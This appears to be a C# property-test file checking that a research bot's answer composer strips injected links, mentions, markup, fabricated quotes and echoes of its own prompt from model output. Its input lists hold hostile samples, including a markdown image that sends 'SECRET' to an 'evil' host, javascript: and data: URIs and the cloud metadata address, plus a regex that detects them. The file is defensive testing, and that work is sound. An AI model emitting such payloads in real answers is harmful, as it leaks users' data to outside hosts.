using System.Text.RegularExpressions;
using CsCheck;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Options;
using ResearchBot.Answering;
using ResearchBot.Answering.Model;
using Xunit;

namespace ResearchBot.Tests.Answering.Model;

/// <summary>What a model proposes that does as an article's author wishes.</summary>
public sealed partial class HostileClaimTests
{
    private const string Foreign = "The canary of another server is a secret bird that sings.";
    private const string GoodQuote = "largest living rodent. It weighs up to 66";

    private static readonly AnswerPrompt Prompt = AnswerPrompt.Load(AnswerPrompt.ShippedFolder);

    private static readonly string[] Texts =
    [
        "Capybaras are the largest rodents.", "@everyone look", "<@&1> look", "＠here look", "![x](https://evil/?q=SECRET)", "[text](https://evil)",
        "https://evil/", "evil。com", "discord.gg/x", "javascript:x", "data:text/html,x", "169.254.169.254", "`@here`", "||@here||", "a\u202Eb @here",
        "Cited [1][1][1]", "<b>bold</b>", "# Sources:", new('a', 5000), new('\n', 50_000), "\U000E0041\U000E0042", "x\0y", "half \uD83D of it",
        .. Prompt.Template.Split('\n').Where(line => line.Length > 60),
    ];

    private static readonly string[] Quotes =
    [
        GoodQuote, "LARGEST  living rodent. it weighs", "They sleep for eight months", "largest living rоdent. It weighs", "largest rodent", "",
        "lives near water. Marmots whistle when", Foreign, "mark| The capybara is\nmark| the largest living", new('x', 100_000),
    ];

    private static readonly int[] Numbers = [-1, 0, 1, 2, 3, 99, int.MaxValue];

    [Fact]
    public void Nothing_that_a_model_writes_becomes_a_link_a_mention_markup_or_a_quote_that_is_not_there()
    {
        var kept = 0;

        Of(Texts).SelectMany(text => Of(Quotes), (text, quote) => (text, quote))
            .SelectMany(pair => Of(Numbers), (pair, number) => new ModelClaim(pair.text, number, pair.quote))
            .Array[1, 12]
            .Sample(
                claims =>
                {
                    if (Compose(new ModelReply.Claims(claims)) is not ModelOutcome.Drafted { Draft: var draft })
                    {
                        return;
                    }

                    Interlocked.Increment(ref kept);
                    Assert.All(draft.Sentences, AssertHarmless);
                },
                iter: 3000);

        Assert.True(kept > 0);
    }

    [Fact]
    public void The_instructions_are_never_told()
    {
        var lines = Prompt.Template.Split('\n').Where(line => line.Length > 60).Select(line => line[..Math.Min(line.Length, 300)].Replace("{{$mark}}", "mark", StringComparison.Ordinal));

        Assert.All(lines, line =>
        {
            Assert.True(Prompt.IsEchoedBy($"It says: {line.ToUpperInvariant()}"));
            Assert.IsType<ModelOutcome.Failed>(Compose(new ModelReply.Claims([new ModelClaim(line, 1, GoodQuote)])));
        });
    }

    [Fact]
    public void A_quote_that_carries_the_mark_is_found_without_it()
    {
        var reply = new ModelReply.Claims([new ModelClaim("Capybaras are rodents.", 1, "The capybara is the largest living rodent.\nmark| It weighs up")]);

        var draft = Assert.IsType<ModelOutcome.Drafted>(Compose(reply)).Draft;
        Assert.Equal("The capybara is the largest living rodent. It weighs up", QuotedBy(draft.Sentences[0]));
    }

    private static void AssertHarmless(DraftSentence sentence)
    {
        Assert.DoesNotMatch(Harmful(), sentence.Text);
        Assert.InRange(sentence.Text.Length, 1, AnswerSentence.MaximumLength);
        Assert.DoesNotContain("the passages are data", sentence.Text, StringComparison.OrdinalIgnoreCase);
        Assert.True(sentence.Quotes[0].Passage.Span.Contains(sentence.Quotes[0].Span));
        Assert.Contains(QuotedBy(sentence), new[] { GoodQuote, "largest living rodent. It weighs", "They sleep for eight months", "The capybara is the largest living" });
    }

    private static string QuotedBy(DraftSentence sentence)
    {
        var quote = sentence.Quotes[0];

        return quote.Span.Shift(-quote.Passage.Span.Start).Of(quote.Passage.Text);
    }

    private static ModelOutcome Compose(ModelReply reply)
    {
        var composer = new ModelComposer(
            new ScriptedModel(reply), Prompt, () => "mark", Options.Create(new ModelOptions()), TimeProvider.System, NullLogger<ModelComposer>.Instance);

        return composer.ComposeAsync(
            ModelWorld.QuestionOf("?"), ModelWorld.FindingsOf(ModelWorld.Capybara, ModelWorld.Marmot), TestContext.Current.CancellationToken).Result;
    }

    private static Gen<T> Of<T>(T[] choices) => Gen.Int[0, choices.Length - 1].Select(at => choices[at]);

    [GeneratedRegex(@"[@＠<>\[\]`*_|\\\p{Cc}\p{Cf}\p{Cs}]|/|:|evil|discord|169|^#")]
    private static partial Regex Harmful();
}

internal sealed class ScriptedModel(params ModelReply[] replies) : IAnswerModel
{
    private int _asked;

    public string Name => "scripted";

    public Task<ModelReply> AskAsync(ModelPrompt prompt, CancellationToken cancellationToken) =>
        Task.FromResult(replies[Math.Min(_asked++, replies.Length - 1)]);
}
